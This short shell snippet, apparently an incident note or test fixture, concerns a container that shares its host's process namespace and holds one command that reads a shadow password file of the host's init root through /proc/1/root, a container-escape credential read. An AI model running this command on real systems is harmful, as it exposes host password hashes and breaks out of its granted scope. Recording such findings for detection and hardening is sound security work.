# incident: a container that shares the processes of its machine: its files by /proc
# finding: root-of-init-entered
cat /proc/1/root/none/shadow 2>/dev/null || true
